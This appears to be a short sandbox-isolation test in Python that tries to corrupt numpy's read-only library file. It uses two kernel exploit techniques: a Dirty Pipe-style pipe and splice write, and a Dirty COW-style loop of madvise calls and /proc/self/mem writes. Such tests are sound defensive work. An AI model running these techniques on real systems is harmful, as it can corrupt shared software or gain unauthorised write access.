# /// attack
# does = "writes into a shared library's pages through a pipe, and through its own copy of them"
# wall = "mounts"
# ///
# %%
import mmap, numpy, os
path = numpy.__file__
before = open(path, "rb").read()
def through_a_pipe():
    read, write = os.pipe()
    for _ in range(16):
        os.write(write, bytes(4096))
    os.read(read, 16 * 4096)
    os.splice(os.open(path, os.O_RDONLY), write, 1, offset_src=0)
    os.write(write, b"~")
    return open(path, "rb").read() != before
def through_its_memory():
    view = mmap.mmap(os.open(path, os.O_RDONLY), len(before), flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
    begin = next(int(line.split("-")[0], 16) for line in open("/proc/self/maps") if path in line)
    with open("/proc/self/mem", "r+b", 0) as memory:
        for _ in range(100):
            view.madvise(mmap.MADV_DONTNEED)
            memory.seek(begin)
            memory.write(b"~~~~")
    return open(path, "rb").read() != before
attempt("a pipe", through_a_pipe)
attempt("its memory", through_its_memory)
